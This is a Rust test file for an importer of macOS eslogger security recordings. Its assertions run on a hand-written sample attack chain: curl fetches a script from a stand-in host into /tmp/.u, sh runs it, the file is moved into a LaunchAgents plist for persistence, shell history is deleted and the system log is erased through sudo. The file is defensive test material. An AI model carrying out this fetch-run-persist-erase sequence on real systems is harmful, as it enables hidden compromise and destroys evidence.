//! The importer over the hand-written samples (`testdata/import/eslogger/`, see its README:
//! no eslogger recording is published under a licence we can copy), detection, and mangled
//! copies of the samples.

use std::path::PathBuf;

use serde_json::Value;

use super::super::procs::begun_key;
use super::super::testing::*;
use super::super::{Counts, NO_HOST, detect, importers};
use super::*;
use crate::import::values::text_time_ns;
use crate::schema::{Detail, Event, EventKind, FileDetail, HostKind, Row};

const HOST: &str = "mara-mbp";

fn sample(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/import/eslogger")
        .join(name)
}

fn import(name: &str, host: Option<&str>) -> (Vec<Row>, Counts) {
    let bytes = std::fs::read(sample(name)).unwrap();
    import_bytes(&Eslogger, &bytes, host)
}

fn session() -> (Vec<Event>, Counts) {
    let (rows, c) = import("session.jsonl", Some(HOST));
    (events(&rows).into_iter().cloned().collect(), c)
}

fn at(utc: &str) -> i64 {
    text_time_ns(utc).unwrap()
}

/// The key of the process of `pid` started at `start`.
fn key(pid: i32, start: &str) -> Option<String> {
    Some(begun_key(HOST, "eslogger", pid, at(start)))
}

fn extra(e: &Event) -> Value {
    serde_json::from_str(e.extra.as_deref().expect("extra")).unwrap()
}

fn file(e: &Event) -> &FileDetail {
    match &e.detail {
        Detail::File(f) => f,
        d => panic!("not a file event: {d:?}"),
    }
}

fn exit_code(e: &Event) -> Option<i32> {
    match &e.detail {
        Detail::Process(p) => p.exit_code,
        d => panic!("not a process event: {d:?}"),
    }
}

/// The starts of the samples' processes.
const ZSH: &str = "2025-06-02T08:59:40.112233Z";
const CURL: &str = "2025-06-02T09:01:05.000300Z";
const SH: &str = "2025-06-02T09:01:06.099800Z";
const MV: &str = "2025-06-02T09:01:06.119900Z";
const BG: &str = "2025-06-02T09:01:06.139900Z";
const LAUNCHD: &str = "2025-06-02T07:12:03.511200Z";
const MDWORKER: &str = "2025-06-02T09:05:00.000100Z";
const PLIST: &str = "/Users/mara/Library/LaunchAgents/com.example.updater.plist";

#[test]
fn a_terminal_session_links_fork_exec_files_and_exit_by_pid_and_start() {
    let (evs, c) = session();
    assert_eq!((c.records, c.skipped_total()), (26, 0), "{c:?}");
    assert_eq!(c.unmapped["close (not modified)"], 1);
    assert_eq!(c.unmapped["btm_launch_item_add"], 1);
    assert_eq!(evs.len(), 24);
    assert!(
        evs.iter()
            .all(|e| e.host_id == HOST && e.source == "eslogger")
    );
    assert!(
        evs.iter()
            .all(|e| e.boot_id.is_none() && e.container_id.is_none())
    );
    use EventKind::*;
    let kinds: Vec<_> = evs.iter().map(|e| e.kind).collect();
    assert_eq!(
        kinds,
        [
            ProcessFork,
            ProcessExec,
            FileOpenRead,
            FileCreate,
            FileOpenWrite,
            FileWriteClose,
            ProcessExit,
            ProcessFork,
            ProcessExec,
            ProcessFork,
            ProcessExec,
            FileRename,
            ProcessExit,
            FileChmod,
            ProcessFork,
            ProcessExec,
            ProcessExec,
            FileUnlink,
            ProcessExit,
            FileOpenWrite,
            ProcessFork,
            ProcessExec,
            ProcessExec,
            ProcessExit,
        ]
    );
    // zsh forks 1305 (pidversion 2301), which execs curl (2302): one process, one key.
    let (fork, exec) = (&evs[0], &evs[1]);
    assert_eq!(fork.time, at("2025-06-02T09:01:05.000412345Z"));
    let p = &fork.process;
    assert_eq!((p.pid, p.ppid), (Some(1305), Some(1201)));
    assert_eq!(p.key, key(1305, CURL));
    assert_eq!(p.parent_key, key(1201, ZSH));
    assert_eq!(p.start_time, Some(at(CURL)));
    assert_eq!(p.exe.as_deref(), Some("/bin/zsh"));
    let p = &exec.process;
    assert_eq!(p.key, key(1305, CURL));
    assert_eq!(p.parent_key, key(1201, ZSH));
    assert_eq!((p.pid, p.ppid), (Some(1305), Some(1201)));
    assert_eq!(p.exe.as_deref(), Some("/usr/bin/curl"));
    assert_eq!(
        p.argv,
        [
            "curl",
            "-fsSL",
            "-o",
            "/tmp/.u",
            "https://updates.example.com/a.sh"
        ]
    );
    assert_eq!(p.cwd.as_deref(), Some("/Users/mara"));
    assert_eq!(
        (p.uid, p.gid, p.euid, p.auid),
        (Some(501), Some(20), Some(501), Some(501))
    );
    assert_eq!(p.tid, None);
    let x = extra(exec);
    let target = &x["event"]["exec"]["target"];
    assert_eq!(target["signing_id"], "com.apple.curl");
    assert_eq!(target["cdhash"], "3C6E2F5A8D4B1C0F9E8D7C6B5A4F3E2D1C0B9A8F");
    assert_eq!(target["is_platform_binary"], true);
    assert_eq!(target["audit_token"]["pidversion"], 2302);
    assert_eq!(target["tty"]["path"], "/dev/ttys003");
    assert_eq!(target["executable"]["path_truncated"], false);
    // What has a column is not repeated; the image before the exec stays whole.
    for k in ["start_time", "ppid"] {
        assert!(target.get(k).is_none(), "{k}");
    }
    assert!(target["audit_token"].get("pid").is_none());
    assert!(target["executable"].get("path").is_none());
    assert!(x["event"]["exec"].get("args").is_none());
    assert!(x["event"]["exec"]["cwd"].get("path").is_none());
    assert_eq!(x["event"]["exec"]["env"][3], "USER=mara");
    assert_eq!(x["process"]["executable"]["path"], "/bin/zsh");
    assert_eq!(x["process"]["audit_token"]["pidversion"], 2301);
    assert_eq!(
        (x["event_type"].as_u64(), x["version"].as_u64()),
        (Some(9), Some(8))
    );
    assert!(x.get("time").is_none());
    // curl's files and exit carry its key.
    for e in &evs[2..7] {
        assert_eq!(e.process.key, key(1305, CURL), "{:?}", e.kind);
        assert_eq!(e.process.exe.as_deref(), Some("/usr/bin/curl"));
    }
    assert_eq!(file(&evs[2]).path, "/private/etc/hosts");
    assert_eq!(extra(&evs[2])["event"]["open"]["fflag"], 1);
    let create = file(&evs[3]);
    assert_eq!(
        (create.path.as_str(), create.mode),
        ("/private/tmp/.u", Some(0o644))
    );
    assert_eq!(extra(&evs[3])["event"]["create"]["destination_type"], 0);
    assert_eq!(file(&evs[4]).path, "/private/tmp/.u");
    assert_eq!(file(&evs[5]).path, "/private/tmp/.u");
    assert_eq!(extra(&evs[5])["event"]["close"]["modified"], true);
    assert_eq!(exit_code(&evs[6]), Some(0));
    assert!(extra(&evs[6])["event"]["exit"].get("stat").is_none());
}

#[test]
fn rename_unlink_chmod_and_a_child_of_an_exited_parent() {
    let (evs, _) = session();
    let (sh_fork, sh) = (&evs[7], &evs[8]);
    assert_eq!(sh_fork.process.key, key(1306, SH));
    assert_eq!(sh.process.key, key(1306, SH));
    assert_eq!(sh.process.argv, ["sh", "/tmp/.u"]);
    // sh forks mv: its parent is sh, by the fork's process.
    let (mv_fork, mv) = (&evs[9], &evs[10]);
    assert_eq!(mv_fork.process.parent_key, key(1306, SH));
    assert_eq!(
        (mv.process.key.clone(), mv.process.parent_key.clone()),
        (key(1307, MV), key(1306, SH))
    );
    let rename = &evs[11];
    assert_eq!(rename.process.key, key(1307, MV));
    assert_eq!(file(rename).path, "/private/tmp/.u");
    assert_eq!(file(rename).target_path.as_deref(), Some(PLIST));
    let dest = &extra(rename)["event"]["rename"]["destination"]["new_path"]["dir"];
    assert_eq!(dest["stat"]["st_ino"], 420870);
    assert!(dest.get("path").is_none());
    assert_eq!(exit_code(&evs[12]), Some(0));
    let chmod = &evs[13];
    assert_eq!(
        (chmod.process.key.clone(), file(chmod).path.as_str()),
        (key(1306, SH), PLIST)
    );
    assert_eq!(file(chmod).mode, Some(0o644));
    // nohup execs caffeinate: two execs, one process.
    assert_eq!(evs[15].process.exe.as_deref(), Some("/usr/bin/nohup"));
    assert_eq!(evs[16].process.exe.as_deref(), Some("/usr/bin/caffeinate"));
    assert!(evs[14..17].iter().all(|e| e.process.key == key(1308, BG)));
    assert!(
        evs[14..17]
            .iter()
            .all(|e| e.process.parent_key == key(1306, SH))
    );
    let unlink = &evs[17];
    assert_eq!(file(unlink).path, "/Users/mara/.zsh_history");
    assert_eq!(
        extra(unlink)["event"]["unlink"]["parent_dir"]["path"],
        "/Users/mara"
    );
    // sh exits 1 (wait status 256).
    assert_eq!(
        (evs[18].process.key.clone(), exit_code(&evs[18])),
        (key(1306, SH), Some(1))
    );
    // launchd adopted caffeinate (ppid 1): its parent is still sh, its original_ppid.
    let orphan = &evs[19];
    assert_eq!(orphan.kind, EventKind::FileOpenWrite);
    assert_eq!(file(orphan).path, "/Users/mara/nohup.out");
    assert_eq!(orphan.process.key, key(1308, BG));
    assert_eq!(orphan.process.ppid, Some(1306));
    assert_eq!(orphan.process.parent_key, key(1306, SH));
    let x = extra(orphan);
    assert_eq!(
        (
            x["process"]["ppid"].as_i64(),
            x["process"].get("original_ppid")
        ),
        (Some(1), None)
    );
}

#[test]
fn a_reused_pid_with_a_new_pidversion_and_start_is_another_process() {
    let (evs, _) = session();
    let (fork, xpc, md, exit) = (&evs[20], &evs[21], &evs[22], &evs[23]);
    assert_eq!(fork.process.pid, Some(1305));
    assert_eq!(fork.process.key, key(1305, MDWORKER));
    assert_ne!(fork.process.key, key(1305, CURL));
    assert_eq!(fork.process.parent_key, key(1, LAUNCHD));
    assert_eq!((fork.process.uid, fork.process.auid), (Some(0), None));
    assert_eq!(xpc.process.exe.as_deref(), Some("/usr/libexec/xpcproxy"));
    assert_eq!(md.process.argv[1..3], ["-s", "mdworker"]);
    assert_eq!(md.process.cwd.as_deref(), Some("/"));
    assert!(
        [xpc, md, exit]
            .iter()
            .all(|e| e.process.key == key(1305, MDWORKER))
    );
    assert!(
        [xpc, md, exit]
            .iter()
            .all(|e| e.process.parent_key == key(1, LAUNCHD))
    );
    // Killed by SIGKILL (wait status 9).
    assert_eq!(exit_code(exit), Some(137));
}

#[test]
fn the_host_is_named_by_host_and_recorded_as_a_mac_laptop() {
    let (rows, c) = import("session.jsonl", Some(HOST));
    let hosts: Vec<_> = rows
        .iter()
        .filter_map(|r| match r {
            Row::Host(h) => Some(h),
            _ => None,
        })
        .collect();
    assert_eq!(hosts.len(), 1);
    let h = hosts[0];
    assert_eq!((h.host_id.as_str(), h.hostname.as_str()), (HOST, HOST));
    assert_eq!(
        (h.os.as_deref(), h.kind),
        (Some("macOS"), Some(HostKind::Laptop))
    );
    assert_eq!(
        (h.source.as_str(), h.time),
        ("eslogger", at("2025-06-02T09:01:05.000412345Z"))
    );
    assert_eq!(c.rows["hosts"], 1);
    // Without --host, nothing: eslogger names no host.
    let (rows, c) = import("session.jsonl", None);
    assert!(rows.is_empty());
    assert_eq!((c.records, c.skipped[NO_HOST]), (26, 26));
}

#[test]
fn logins_and_authentications_are_logon_rows_with_who_from_where_and_the_outcome() {
    use crate::schema::{Detail, Family, Outcome};
    let (rows, c) = import("logins.jsonl", Some(HOST));
    assert_eq!((c.records, c.skipped_total()), (7, 0), "{c:?}");
    let evs = events(&rows);
    assert_eq!(evs.len(), 7);
    let api = |i: usize| match &evs[i].detail {
        Detail::Api(d) => d.as_ref(),
        d => panic!("{d:?}"),
    };
    assert!(
        evs.iter()
            .all(|e| e.kind.family() == Family::Api && e.host_id == HOST)
    );
    assert!(evs.iter().all(|e| e.kind == EventKind::AuthLogon));
    // A refused ssh login for a user that does not exist, and one that worked.
    let (bad, good) = (api(0), api(1));
    assert_eq!(
        (bad.operation.as_str(), bad.service.as_deref()),
        ("openssh_login", Some("ssh"))
    );
    assert_eq!(bad.outcome, Some(Outcome::Failure));
    assert_eq!(bad.src_ip, Some("192.0.2.44".parse().unwrap()));
    assert_eq!(evs[0].process.user_name.as_deref(), Some("admin"));
    assert_eq!(good.outcome, Some(Outcome::Success));
    assert_eq!(good.src_ip, Some("198.51.100.23".parse().unwrap()));
    assert_eq!(evs[1].process.user_name.as_deref(), Some("mara"));
    // sudo and su name the user they became; su failed.
    let by = |op: &str| (0..7).find(|i| api(*i).operation == op).unwrap();
    let sudo = api(by("sudo"));
    assert_eq!(
        (sudo.resource.as_deref(), sudo.outcome),
        (Some("root"), Some(Outcome::Success))
    );
    let su = api(by("su"));
    assert_eq!(
        (su.outcome, su.status_detail.as_deref()),
        (Some(Outcome::Failure), Some("Sorry"))
    );
    // The command sudo ran stays in extra, in the record's own layout.
    let x: serde_json::Value =
        serde_json::from_str(evs[by("sudo")].extra.as_deref().unwrap()).unwrap();
    assert_eq!(x["event"]["sudo"]["command"], "/usr/bin/log erase --all");
    // One without what says who is skipped, not counted as a login.
    let bytes = std::fs::read(sample("logins.jsonl")).unwrap();
    let first = std::str::from_utf8(&bytes).unwrap().lines().next().unwrap();
    let broken = first.replace(r#""username":"admin""#, r#""username":"""#);
    let (_, c) = import_bytes(&Eslogger, broken.as_bytes(), Some(HOST));
    assert_eq!(c.skipped["incomplete event"], 1, "{c:?}");
}

#[test]
fn a_process_without_start_time_is_found_by_its_earlier_image() {
    let bytes = std::fs::read(sample("session.jsonl")).unwrap();
    let text = std::str::from_utf8(&bytes).unwrap();
    let lines: Vec<&str> = text.lines().take(3).collect();
    // curl's exec and open without any start_time: the fork's child gave it.
    let cut = |l: &str| {
        let mut v: Value = serde_json::from_str(l).unwrap();
        v["process"].as_object_mut().unwrap().remove("start_time");
        if let Some(t) = v.pointer_mut("/event/exec/target") {
            t.as_object_mut().unwrap().remove("start_time");
        }
        v.to_string()
    };
    let input = [lines[0].to_string(), cut(lines[1]), cut(lines[2])].join("\n");
    let (rows, c) = import_bytes(&Eslogger, input.as_bytes(), Some(HOST));
    let evs = events(&rows);
    assert_eq!((evs.len(), c.skipped_total()), (3, 0));
    assert!(evs.iter().all(|e| e.process.key == key(1305, CURL)));
    assert_eq!(evs[2].process.start_time, Some(at(CURL)));
    // Alone, the open names no process it can key.
    let (rows, _) = import_bytes(&Eslogger, cut(lines[2]).as_bytes(), Some(HOST));
    let evs = events(&rows);
    assert_eq!(
        (evs[0].process.key.as_deref(), evs[0].process.pid),
        (None, Some(1305))
    );
}

#[test]
fn setowner_is_a_chown_and_an_unknown_event_is_counted_by_name() {
    let bytes = std::fs::read(sample("session.jsonl")).unwrap();
    let text = std::str::from_utf8(&bytes).unwrap();
    let chmod = text.lines().find(|l| l.contains(r#""setmode""#)).unwrap();
    let mut v: Value = serde_json::from_str(chmod).unwrap();
    let target = v["event"]["setmode"]["target"].clone();
    v["event"] = serde_json::json!({"setowner": {"uid": 0, "gid": 80, "target": target}});
    v["event_type"] = 30.into();
    let mut signal = v.clone();
    signal["event"] = serde_json::json!({"signal": {"sig": 15, "target": v["process"].clone()}});
    let input = format!("{v}\n{signal}");
    let (rows, c) = import_bytes(&Eslogger, input.as_bytes(), Some(HOST));
    let evs = events(&rows);
    assert_eq!((evs.len(), c.unmapped["signal"]), (1, 1), "{c:?}");
    let e = evs[0];
    assert_eq!(
        (e.kind, file(e).path.as_str()),
        (EventKind::FileChown, PLIST)
    );
    assert_eq!((file(e).owner_uid, file(e).owner_gid), (Some(0), Some(80)));
    assert_eq!(e.process.key, key(1306, SH));
    let x = extra(e);
    assert_eq!(x["event"]["setowner"]["target"]["stat"]["st_ino"], 91023);
    assert!(x["event"]["setowner"].get("uid").is_none());
}

#[test]
fn importing_the_same_bytes_twice_adds_nothing() {
    let bytes = std::fs::read(sample("session.jsonl")).unwrap();
    let twice = [bytes.clone(), bytes].concat();
    let (rows, c) = import_bytes(&Eslogger, &twice, Some(HOST));
    assert_eq!((c.records, c.duplicates), (52, 26));
    assert_eq!(events(&rows).len(), 24);
}

fn inputs() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(sample(""))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .collect();
    files.sort();
    files
}

/// Skip reasons of records (the rest are stretches that never became records).
const RECORD_SKIPS: &[&str] = &[
    "not an eslogger event",
    NO_HOST,
    "no time",
    "incomplete event",
];

#[test]
fn mangled_copies_never_panic_and_every_record_is_accounted_for() {
    let files = inputs();
    assert_eq!(files.len(), 2, "{files:?}");
    let (mut copies, mut rows, mut skipped) = (0, 0, 0);
    for f in &files {
        let bytes = std::fs::read(f).unwrap();
        for m in mangled(&bytes) {
            for host in [None, Some(HOST)] {
                let (out, c) = import_bytes(&Eslogger, &m, host);
                let evs = events(&out).len() as u64;
                assert_accounted(&c, evs, RECORD_SKIPS, &[], &f.display().to_string());
                copies += 1;
                rows += evs;
                skipped += c.skipped_total();
            }
        }
    }
    eprintln!("{copies} mangled copies: {rows} events, {skipped} skipped");
    assert!(rows > 0 && skipped > 0);
}

#[test]
fn sniff_takes_eslogger_and_nothing_else() {
    for f in inputs() {
        let bytes = std::fs::read(&f).unwrap();
        assert!(Eslogger.sniff(&bytes), "{}", f.display());
        assert_eq!(
            detect(&bytes).unwrap().name(),
            "eslogger",
            "{}",
            f.display()
        );
        for other in importers() {
            if other.name() != "eslogger" {
                assert!(
                    !other.sniff(&bytes),
                    "{} claims {}",
                    other.name(),
                    f.display()
                );
            }
        }
    }
    let testdata = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("testdata");
    let mut others = 0;
    for e in walkdir::WalkDir::new(testdata) {
        let e = e.unwrap();
        let ours = e.path().components().any(|c| c.as_os_str() == "eslogger");
        if e.file_type().is_file() && !ours {
            let bytes = std::fs::read(e.path()).unwrap();
            assert!(!Eslogger.sniff(&bytes), "{}", e.path().display());
            others += 1;
        }
    }
    assert!(others > 50, "{others}");
    assert!(!Eslogger.sniff(br#"{"event":{"exec":{}},"event_type":9}"#));
    assert!(!Eslogger.sniff(b""));
}
